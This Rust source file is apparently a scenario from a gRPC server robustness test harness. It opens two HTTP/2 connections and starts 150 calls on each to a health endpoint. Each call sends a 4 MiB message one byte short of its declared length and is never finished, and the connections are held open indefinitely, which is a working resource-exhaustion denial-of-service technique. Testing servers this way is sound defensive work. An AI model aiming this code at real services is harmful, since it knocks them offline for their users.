//! Messages that lack their last byte, of callers without a key.

use anyhow::Result;
use prost::bytes::{BufMut, Bytes, BytesMut};
use tokio::task::JoinSet;

use crate::stage::Stage;
use crate::wire::{self, Connection};

const CONNECTIONS: usize = 2;
const CALLS: usize = 150;
/// The largest message of the defaults.
const BYTES: usize = 4 << 20;

pub(crate) async fn run(stage: Stage) -> Result<()> {
    // One for all: h2 sends of it what the server gives room for.
    let body = unfinished();
    stage.ready().await;
    let mut calls = JoinSet::new();
    let mut held = Vec::new();
    for _ in 0..CONNECTIONS {
        let connection = Connection::to(stage.grpc(), wire::ATTACKER, None).await?;
        for _ in 0..CALLS {
            // A connection that is closed for it is an answer, too.
            let Ok((response, mut sending)) = connection.open(wire::HEALTH, "").await else {
                stage.got("connection closed");
                break;
            };
            // Without its end.
            sending.send_data(body.clone(), false)?;
            held.push(sending);
            calls.spawn(wire::status(response));
        }
        held_open(&mut calls, connection);
    }
    super::count(&stage, calls).await;
    Ok(())
}

/// A message that says how long it is, and is a byte short of it.
fn unfinished() -> Bytes {
    let mut bytes = BytesMut::with_capacity(5 + BYTES);
    bytes.put_u8(0);
    bytes.put_u32(BYTES as u32);
    bytes.put_bytes(0, BYTES - 1);
    bytes.freeze()
}

/// Keeps a connection for as long as the attack goes on.
fn held_open(calls: &mut JoinSet<String>, connection: Connection) {
    calls.spawn(async move {
        let never: std::convert::Infallible = std::future::pending().await;
        drop(connection);
        match never {}
    });
}
